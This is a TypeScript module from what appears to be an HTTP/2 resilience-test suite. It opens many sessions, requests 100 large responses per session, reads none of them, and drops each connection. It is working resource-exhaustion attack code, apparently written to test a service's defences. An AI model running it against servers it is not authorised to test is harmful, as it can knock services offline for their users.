// Visitors of HTTP/2 who ask for a hundred large answers, read nothing of them, and are gone.

import type { TLSSocket } from 'node:tls';
import type { Attack, Counts } from '../attack.ts';
import { pause, serveByTenant, visitor } from '../http2-attackers.ts';

const STREAMS = 100;
const EACH_MS = 500;
const ANSWER = Buffer.alloc(1024 * 1024);
const HEAD = `HTTP/1.1 200 OK\r\nContent-Length: ${ANSWER.length}\r\n\r\n`;

export const attack: Attack = {
  name: 'E20 visitors of HTTP/2 who vanish',
  async run(target, signal) {
    const counts: Counts = { vanished: 0, refused: 0 };
    const service = await serveByTenant(target, 'vanishing', (socket) => {
      socket.write(HEAD);
      socket.write(ANSWER);
    });
    for (let at = 0; !signal.aborted; at++) {
      try {
        const { session, socket } = await visitor(target, service.host, 2 ** 30);
        session.setLocalWindowSize(2 ** 30);
        for (let i = 0; i < STREAMS; i++) session.request({ ':path': '/' }).on('error', () => {});
        await pause(EACH_MS, signal);
        leave(socket, at);
        counts.vanished = (counts.vanished ?? 0) + 1;
      } catch {
        counts.refused = (counts.refused ?? 0) + 1;
        await pause(EACH_MS, signal);
      }
    }
    await service.close();
    return counts;
  },
};

/** With a RST, or with an end. */
function leave(socket: TLSSocket, at: number): void {
  if (at % 2) socket.resetAndDestroy();
  else socket.destroy();
}
